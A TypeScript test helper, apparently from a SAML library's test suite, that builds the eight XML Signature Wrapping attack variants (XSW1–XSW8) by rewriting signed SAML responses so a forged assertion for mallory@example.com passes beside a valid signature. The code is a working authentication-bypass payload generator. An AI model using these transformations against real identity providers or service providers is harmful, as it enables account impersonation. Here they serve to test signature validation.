/**
 * The eight XML Signature Wrapping layouts of "On Breaking SAML: Be Whoever You Want to Be"
 * (Somorovsky et al., USENIX Security 2012), arranged as SAML Raider's XSW1–XSW8 arrange them
 * (CompassSecurity/SAMLRaider, helpers/XSWHelpers.java), written again here over xmldom. In
 * each, the "evil" copy names mallory@example.com while a signature still verifies over the
 * original content somewhere else in the document.
 */
import type { XmlElement as Element } from '../../../../src/xml/index.js';
import { NS_SAML, edit, first, makeEvil } from './upstream-response.js';

export type XswLayout = 'XSW1' | 'XSW2' | 'XSW3' | 'XSW4' | 'XSW5' | 'XSW6' | 'XSW7' | 'XSW8';

function firstSignature(scope: Element): Element {
  const el = scope.getElementsByTagNameNS('*', 'Signature').item(0);
  if (el === null) throw new Error('no Signature to wrap');
  return el;
}

function withoutSignature(el: Element): Element {
  const sig = firstSignature(el);
  (sig.parentNode as Element).removeChild(sig);
  return el;
}

export function applyXsw(layout: XswLayout, xml: string): string {
  return edit(xml, (doc, root) => {
    const assertion = first(root, NS_SAML, 'Assertion');
    switch (layout) {
      case 'XSW1': {
        // The Response becomes the evil one; an unsigned copy of the original goes inside its Signature.
        const original = withoutSignature(root.cloneNode(true) as Element);
        makeEvil(root);
        firstSignature(root).appendChild(original);
        root.setAttribute('ID', '_evil_response_ID');
        return;
      }
      case 'XSW2': {
        // As XSW1, with the copy placed just before the Signature (a detached-signature layout).
        const original = withoutSignature(root.cloneNode(true) as Element);
        makeEvil(root);
        const signature = firstSignature(root);
        (signature.parentNode as Element).insertBefore(original, signature);
        root.setAttribute('ID', '_evil_response_ID');
        return;
      }
      case 'XSW3': {
        // An unsigned evil Assertion with a new id, before the signed one.
        const evil = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(evil);
        evil.setAttribute('ID', '_evil_assertion_ID');
        root.insertBefore(evil, assertion);
        return;
      }
      case 'XSW4': {
        // The evil Assertion after it, with the signed original moved inside the evil one.
        const evil = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(evil);
        evil.setAttribute('ID', '_evil_assertion_ID');
        root.appendChild(evil);
        evil.appendChild(assertion);
        return;
      }
      case 'XSW5': {
        // The signed Assertion is edited in place (keeping its Signature); an unsigned copy of the original follows.
        const copy = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(assertion);
        root.appendChild(copy);
        assertion.setAttribute('ID', '_evil_assertion_ID');
        return;
      }
      case 'XSW6': {
        // As XSW5, with the unsigned original inside the evil Assertion's Signature.
        const signature = firstSignature(assertion);
        const copy = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(assertion);
        signature.appendChild(copy);
        assertion.setAttribute('ID', '_evil_assertion_ID');
        return;
      }
      case 'XSW7': {
        // An unsigned evil copy inside an Extensions element before the signed Assertion.
        const extensions = doc.createElement('Extensions');
        root.insertBefore(extensions, assertion);
        const evil = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(evil);
        extensions.appendChild(evil);
        return;
      }
      case 'XSW8': {
        // The signed Assertion is edited in place; the unsigned original goes in a ds:Object of its Signature.
        const signature = firstSignature(assertion);
        const copy = withoutSignature(assertion.cloneNode(true) as Element);
        makeEvil(assertion);
        const object = doc.createElement('Object');
        signature.appendChild(object);
        object.appendChild(copy);
        return;
      }
    }
  });
}
